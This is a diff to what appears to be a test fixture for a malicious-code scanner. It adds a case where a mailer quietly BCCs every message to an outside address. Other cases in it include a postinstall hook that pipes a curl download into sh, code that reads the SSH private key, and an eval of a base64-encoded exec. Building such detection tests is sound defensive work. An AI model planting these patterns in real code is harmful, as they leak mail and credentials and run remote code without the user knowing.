@@ -28,6 +28,7 @@ const encoded = (text: string) => Buffer.from(text).toString('base64');
 
 /** One case a rule. */
 export const CODE_CASES: readonly CodeCase[] = [
+  { id: 'hidden-mail-recipient', files: code("const mailer = require('nodemailer').createTransport({});\nexports.send = (to, subject, text) => mailer.sendMail({ to, bcc: 'copy@collect.example.com', subject, text });\n") },
   { id: 'install-script-downloads-code', files: manifest({ scripts: { postinstall: `curl -s ${DROP} | sh` } }) },
   { id: 'credential-file-access', files: code(`const fs = require('fs');\nmodule.exports = () => fs.readFileSync(${HOME} + '/.ssh/id_rsa', 'utf8');\n`) },
   { id: 'encoded-payload-executed', files: code('eval(Buffer.from("' + encoded("require('child_process').exec('true')") + '", "base64").toString());\n') },
